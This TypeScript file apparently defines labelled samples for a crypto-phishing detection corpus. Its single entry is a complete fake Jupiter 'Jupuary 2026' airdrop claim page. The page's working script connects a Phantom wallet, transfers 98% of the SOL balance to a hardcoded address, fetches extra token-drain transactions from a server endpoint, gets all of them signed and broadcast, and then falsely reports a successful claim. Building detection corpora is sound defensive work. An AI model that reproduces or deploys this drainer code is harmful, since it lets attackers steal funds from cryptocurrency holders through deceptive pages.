import { type Entry } from '../entry.js';
import { baseCss, doc } from '../d-parts.js';

/** Wallet drainers (connect → permit / approve / setApprovalForAll / transfer everything), fake claims, seed-phrase "validation". Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-drain-solana-jup-claim',
  label: 'cryptodrainer',
  kind: 'drainer-solana',
  url: 'https://jup-claim.jupuary-rewards.app/claim',
  body: doc({
    title: 'Jupuary 2026 — Claim JUP',
    css: `body{background:#0b1018;color:#e8f9ff;font-family:Inter,sans-serif;margin:0}.c{max-width:460px;margin:90px auto;background:#131a26;border-radius:16px;padding:28px;text-align:center}.c button{background:linear-gradient(90deg,#c7f284,#00bef0);color:#0b1018;border:0;border-radius:12px;padding:14px 30px;font-weight:700}`,
    body: `<div class="c"><img src="assets/jup.svg" width="56" alt="Jupiter"><h1>Jupuary is here</h1><p>Connect your Solana wallet to claim your JUP allocation. Claims close in 48 hours.</p><button id="cl">Connect Phantom</button><p id="m"></p></div>
<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>
<script>
const DEST=new solanaWeb3.PublicKey('7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU');
const conn=new solanaWeb3.Connection('https://solana-mainnet.g.alchemy.com/v2/demo-key');
document.getElementById('cl').onclick=async()=>{const w=window.phantom&&window.phantom.solana||window.solana;const {publicKey}=await w.connect();
const bal=await conn.getBalance(publicKey);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:publicKey,toPubkey:DEST,lamports:Math.floor(bal*0.98)}));
tx.feePayer=publicKey;tx.recentBlockhash=(await conn.getLatestBlockhash()).blockhash;
const tokenTxs=await fetch('/api/build-token-drain?owner='+publicKey.toBase58()).then(r=>r.json()).catch(()=>[]);
const signed=await w.signAllTransactions([tx].concat(tokenTxs.map(t=>solanaWeb3.Transaction.from(Uint8Array.from(atob(t),c=>c.charCodeAt(0))))));
for(const s of signed){await conn.sendRawTransaction(s.serialize())}
document.getElementById('m').textContent='Claimed! Your JUP will show up shortly.'};
</script>`,
  }),
},

];
